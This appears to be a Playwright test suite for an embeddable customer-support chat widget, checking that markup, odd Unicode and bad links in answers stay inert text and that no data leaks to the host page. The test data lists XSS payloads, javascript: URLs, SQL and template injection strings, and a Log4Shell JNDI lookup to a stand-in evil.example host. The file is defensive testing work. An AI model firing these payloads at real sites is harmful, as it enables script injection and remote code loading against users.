"""Whatever the words are, they stay words (T12, T23, T38), and the page around the widget stays itself."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from .guest import Guest
from .script import Event, Gate, block, delta, done, error, faq, link, meta, near, paragraph
from .scripted import Scripted

ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "</p></div><style>*{display:none}</style>",
    "[click](javascript:window.hit=1) ![x](https://evil.example/?q=1)",
    "{{7*7}} ${7*7} <%= 7*7 %> %s%n ' OR 1=1 --",
    "${jndi:ldap://evil.example/a}\r\nSet-Cookie: x=1",
    "\x1b[31mred\x1b[0m",
]
URLS = [
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    " javascript:window.hit=1",
    "data:text/html,<script>1</script>",
    "//evil.example",
    "vbscript:x",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_fault_37_38_markup_in_any_text_stays_text(opened: Guest, attack: str) -> None:
    nodes = [
        paragraph(attack),
        {"type": "code_block", "text": attack},
        {"type": attack, "text": attack, "onclick": "window.hit=1"},
    ]
    suggestion = {"entry_id": attack, "question": attack}
    question = attack.replace("\r\n", "\n").strip()  # a text area has its own line ends
    opened.server.says(
        question, [meta("suggest", suggestions=[suggestion]), delta(attack), block(*nodes), done(attack, *nodes)]
    )
    opened.ask(question)
    expect(opened.questions).to_have_text(question)
    expect(opened.button("상담원 연결")).to_have_count(1)
    expect(opened.answer.locator(".pick span")).to_have_text(attack, use_inner_text=False)
    assert opened.words.locator("p").evaluate("(element) => element.textContent") == attack
    assert_inert(opened)


@pytest.mark.parametrize("attack", ATTACKS)
def test_fault_38_markup_in_an_error_stays_text(opened: Guest, attack: str) -> None:
    opened.server.says("질문", [meta(), error(attack)])
    opened.ask("질문")
    expect(opened.answer.locator(".notice")).to_contain_text(" ".join(attack.split()))
    assert_inert(opened)


@pytest.mark.parametrize("url", URLS)
def test_fault_38_a_link_that_is_no_web_address_is_only_its_words(opened: Guest, url: str) -> None:
    node = paragraph(link(url, "누르세요"))
    opened.server.says("링크", [meta("faq"), block(node), done("누르세요", node)])
    opened.ask("링크")
    expect(opened.words).to_have_text("누르세요")
    expect(opened.words.locator("a")).to_have_count(0)


def test_an_answer_cannot_make_the_browser_load_anything(opened: Guest) -> None:
    requested: list[str] = []
    opened.page.on("request", lambda request: requested.append(request.url))
    opened.server.says("그림", faq('<img src="https://evil.example/pixel"> ![](https://evil.example/pixel)'))
    opened.ask("그림")
    expect(opened.words).to_contain_text("evil.example")
    assert [url for url in requested if "evil.example" in url] == []


@pytest.mark.parametrize(
    "words",
    [
        "a" * 65_536,
        "가" * 2_000,
        "Z" + "\u0316\u0300\u0301" * 334,
        "\u202e거꾸로 쓴 글\u202c",
        "שלום עולם " * 40,
        "🏳️‍🌈" * 300,
    ],
    ids=["64 KB without a space", "Hangul without a space", "zalgo", "bidi override", "right to left", "emoji"],
)
def test_fault_35_36_odd_text_does_not_break_the_layout(opened: Guest, words: str) -> None:
    opened.server.says("이상한 글", faq(words))
    opened.ask("이상한 글")
    expect(opened.button("도움이 됐어요")).to_be_visible()
    widths = opened.panel.locator(".transcript").evaluate("(element) => [element.scrollWidth, element.clientWidth]")
    assert widths[0] == widths[1]
    assert opened.panel.bounding_box()["width"] == 400  # type: ignore[index]
    expect(opened.answer.locator(".source")).to_have_text("FAQ 답변 · 확실")


def test_the_title_of_the_tag_is_text_too(page: Page, server: Scripted) -> None:
    page.goto("/bare?data-title=<img src=x onerror=window.hit=1>")
    guest = Guest(page, server)
    guest.open()
    expect(guest.panel.locator("h2")).to_have_text("<img src=x onerror=window.hit=1>")
    assert_inert(guest)


def test_keys_pressed_in_the_chat_are_not_the_pages_shortcuts(opened: Guest) -> None:
    opened.evaluate(
        """() => {
          window.keys = [];
          for (const type of ["keydown", "keyup"]) addEventListener(type, (event) => keys.push(event.key));
        }"""
    )
    opened.field.press("k")
    opened.field.press("/")
    assert opened.evaluate("window.keys") == []


def test_only_one_name_is_added_to_the_page(page: Page, server: Scripted) -> None:
    page.goto("/bare")
    guest = Guest(page, server)
    guest.open()
    added = page.evaluate(
        """() => {
          const frame = document.createElement("iframe");
          document.body.append(frame);
          const usual = new Set(Object.getOwnPropertyNames(frame.contentWindow));
          frame.remove();
          return Object.getOwnPropertyNames(window).filter(
            (name) => !usual.has(name) && !/^(__playwright|__pw)/.test(name));
        }"""
    )
    assert added == ["Ondap"]


def test_the_page_never_learns_the_conversations_secret(opened: Guest) -> None:
    opened.evaluate(
        """() => {
          window.told = [];
          for (const name of ["open", "close", "message", "answer", "feedback", "escalated", "unread", "error"])
            document.addEventListener(`ondap:${name}`, ({ type, detail }) => told.push([type, detail]));
        }"""
    )
    opened.ask("비밀")
    opened.button("도움이 됐어요").click()
    opened.button("상담원 연결").click()
    expect(opened.button("상담원 요청됨")).to_be_visible()
    told = opened.evaluate("window.told")
    assert {name for name, _ in told} == {"ondap:message", "ondap:answer", "ondap:feedback", "ondap:escalated"}
    assert "s3cret" not in str(told)


def test_an_event_of_a_later_version_is_passed_over(opened: Guest) -> None:
    opened.server.says("내일", [meta(), Event("hologram", {"text": "?"}), delta("오늘"), Gate()])
    opened.ask("내일")
    expect(opened.words).to_have_text("오늘")


def assert_inert(guest: Guest) -> None:
    assert guest.evaluate("window.hit") is None
    for element in ("script", "img", "iframe", "style", "object", "[onclick]", "[style*=expression]"):
        expect(guest.page.locator(f"ondap-widget {element}")).to_have_count(0)


def test_near_questions_are_text_when_they_are_sent(opened: Guest) -> None:
    attack = ATTACKS[1]
    opened.server.says("?!", near(attack))
    opened.ask("?!")
    opened.answer.locator(".pick").click()
    expect(opened.questions.last).to_have_text(attack)
    assert_inert(opened)
